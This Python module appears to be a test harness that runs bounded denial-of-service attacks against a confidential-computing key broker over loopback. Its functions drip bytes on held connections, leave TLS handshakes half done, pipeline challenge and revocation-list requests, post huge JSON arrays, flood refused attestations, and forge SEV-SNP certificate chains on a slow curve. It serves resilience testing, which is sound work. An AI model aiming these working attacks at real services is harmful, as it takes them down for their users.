# SPDX-License-Identifier: Apache-2.0
"""What strangers do to a broker. Loopback only; each attack is bounded in time and number.

An attack takes the broker's address and gives figures. Strangers come from addresses of their own
(127.0.0.2 and so on), as they would on a network.
"""
import json
import os
import socket
import ssl
import subprocess
import time


def connect(url, source, timeout=10):
    """url: urlsplit's. Over TLS where it is https."""
    s = socket.create_connection((url.hostname, url.port), timeout=timeout, source_address=(source, 0))
    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if url.scheme == "https":
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        s = context.wrap_socket(s)
    return s


def request(method, path, body=b"", cookie=None):
    head = f"{method} {path} HTTP/1.1\r\nHost: x\r\nContent-Length: {len(body)}\r\n"
    return (head + (f"Cookie: {cookie}\r\n" if cookie else "") + "\r\n").encode() + body


def answers(s, count):
    """(status, head, body) of so many answers on one connection; fewer where it ends."""
    data, out = b"", []
    while len(out) < count:
        end = data.find(b"\r\n\r\n")
        if end >= 0:
            head = data[:end].decode("latin-1")
            size = next((int(l.split(":")[1]) for l in head.split("\r\n") if l.lower().startswith("content-length:")), 0)
            if len(data) >= end + 4 + size:
                out.append((int(head.split()[1]), head, data[end + 4:end + 4 + size]))
                data = data[end + 4 + size:]
                continue
        try:
            more = s.recv(65536)
        except OSError:
            break
        if not more:
            break
        data += more
    return out


AUTH = json.dumps({"version": "0.4.0", "tee": "tdx", "extra-params": {}}).encode()


def challenges(url, source, count):
    """Asks for challenges, many on one connection; the cookies that came."""
    cookies = []
    try:
        with connect(url, source) as s:
            s.sendall(request("POST", "/kbs/v0/auth", AUTH) * count)
            for status, head, _ in answers(s, count):
                if status == 200:
                    line = next(l for l in head.split("\r\n") if l.lower().startswith("set-cookie:"))
                    cookies.append(line.split(":", 1)[1].split(";")[0].strip())
    except OSError:
        pass
    return cookies


def drip(url, sources, count, seconds, ready=None):
    """Connections that send a byte now and then: before TLS, in TLS and in headers. How many were still open at the end.
    ready: an event that is set once all are tried."""
    held = []
    for n in range(count):
        source = sources[n % len(sources)]
        try:
            if n % 10 and url.scheme == "https":  # says nothing proper, not even TLS
                held.append(socket.create_connection((url.hostname, url.port), timeout=5, source_address=(source, 0)))
            else:
                s = connect(url, source, 5)
                s.sendall(b"GET /healthz HTTP/1.1\r\nX: ")
                held.append(s)
        except OSError:
            pass
    if ready:
        ready.set()
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(0.5)
        for s in list(held):
            try:
                s.send(b"y" if isinstance(s, ssl.SSLSocket) or url.scheme == "http" else b"\x16")
            except OSError:
                held.remove(s)
    opened = 0
    for s in held:  # what the other side ended is readable
        s.setblocking(False)
        try:
            opened += s.recv(1) != b""
        except (BlockingIOError, ssl.SSLWantReadError):
            opened += 1
        except OSError:
            pass
        s.close()
    return opened


def half_handshakes(url, source, count, seconds):
    """Connections that begin TLS and say nothing more. How many there were."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    held = []
    for _ in range(count):
        hello = ssl.MemoryBIO()
        try:
            context.wrap_bio(ssl.MemoryBIO(), hello).do_handshake()
        except ssl.SSLWantReadError:
            pass
        try:
            s = socket.create_connection((url.hostname, url.port), timeout=5, source_address=(source, 0))
            s.sendall(hello.read())
            held.append(s)
        except OSError:
            pass
    time.sleep(seconds)
    for s in held:
        s.close()
    return len(held)


def ask_crl(url, source, count):
    """Asks for the list of revoked certificates, many on one connection; the answers' bodies."""
    try:
        with connect(url, source) as s:
            s.sendall(request("GET", "/kbs/v0/identity/crl") * count)
            return [body for status, _, body in answers(s, count) if status == 200]
    except OSError:
        return []


def bomb(url, source, path, size, cookie=None):
    """[0,0,0… of so many bytes: each value costs the server many times its text. The status."""
    body = b"[" + b"0," * (size // 2 - 1) + b"0]"
    try:
        with connect(url, source) as s:
            s.sendall(request("POST", path, body, cookie))
            return answers(s, 1)[0][0]
    except (OSError, IndexError):
        return 0


def flood_log(url, source, count):
    """Refused attestations. How many were refused by judgement (and so would be lines of a log)."""
    cookies = challenges(url, source, count)
    body = json.dumps({"runtime-data": {"nonce": "x" * 40, "tee-pubkey": {"kty": "EC", "pad": "y" * 60}},
                       "tee-evidence": {"primary_evidence": {"quote": "AAAA"}, "additional_evidence": ""}}).encode()
    try:
        with connect(url, source) as s:
            s.sendall(b"".join(request("POST", "/kbs/v0/attest", body, c) for c in cookies))
            return sum(status in (400, 401) for status, _, _ in answers(s, len(cookies)))
    except OSError:
        return 0


AMD_LEAF = """[req]
distinguished_name=dn
prompt=no
[dn]
CN=SEV-VCEK
[leaf]
basicConstraints=critical,CA:FALSE
1.3.6.1.4.1.3704.1.2=ASN1:IA5:Milan-B0
subjectKeyIdentifier=none
authorityKeyIdentifier=none
[ca]
subjectKeyIdentifier=none
authorityKeyIdentifier=none
basicConstraints=critical,CA:TRUE
"""


def odd_certificates(folder, count=22):
    """Evidence of SNP whose signer has `count` possible issuers of one name, on a curve that is slow. JSON."""
    def run(*args):
        subprocess.run(["openssl", *args], check=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=60)
    os.makedirs(folder, exist_ok=True)
    config = f"{folder}/config"
    open(config, "w").write(AMD_LEAF)
    chain = []
    for n in range(count):
        run("ecparam", "-genkey", "-noout", "-name", "sect571r1", "-out", f"{folder}/ca{n}.key")
        run("req", "-x509", "-new", "-key", f"{folder}/ca{n}.key", "-subj", "/CN=SEV-Milan", "-days", "30", "-config", config,
            "-extensions", "ca", "-out", f"{folder}/ca{n}.pem")
        chain.append(open(f"{folder}/ca{n}.pem").read())
    run("ecparam", "-genkey", "-noout", "-name", "secp384r1", "-out", f"{folder}/leaf.key")
    run("req", "-new", "-key", f"{folder}/leaf.key", "-config", config, "-out", f"{folder}/leaf.csr")
    run("ecparam", "-genkey", "-noout", "-name", "sect571r1", "-out", f"{folder}/other.key")
    run("req", "-x509", "-new", "-key", f"{folder}/other.key", "-subj", "/CN=SEV-Milan", "-days", "30", "-config", config,
        "-extensions", "ca", "-out", f"{folder}/other.pem")
    run("x509", "-req", "-in", f"{folder}/leaf.csr", "-CA", f"{folder}/other.pem", "-CAkey", f"{folder}/other.key", "-CAcreateserial",
        "-days", "30", "-extfile", config, "-extensions", "leaf", "-out", f"{folder}/leaf.pem")
    report = bytearray(1184)
    report[0] = 2
    report[0x34] = 1  # ECDSA P-384 with SHA-384
    return {"attestation_report": bytes(report).hex(), "cert_chain": [{"cert_type": "VCEK", "data": open(f"{folder}/leaf.pem").read()}] +
            [{"cert_type": "ASK", "data": c} for c in chain]}


def judge_odd(url, source, evidence, key, count):
    """Has such evidence judged so often. How many were."""
    done = 0
    auth = json.dumps({"version": "0.4.0", "tee": "snp", "extra-params": {}}).encode()
    for _ in range(count):
        try:
            with connect(url, source) as s:
                s.sendall(request("POST", "/kbs/v0/auth", auth))
                _, head, body = answers(s, 1)[0]
                cookie = next(l for l in head.split("\r\n") if l.lower().startswith("set-cookie:")).split(":", 1)[1].split(";")[0].strip()
                attest = {"runtime-data": {"nonce": json.loads(body)["nonce"], "tee-pubkey": key},
                          "tee-evidence": {"primary_evidence": evidence, "additional_evidence": ""}}
                s.sendall(request("POST", "/kbs/v0/attest", json.dumps(attest).encode(), cookie))
                done += answers(s, 1)[0][0] in (400, 401)
        except (OSError, IndexError, StopIteration):
            pass
    return done
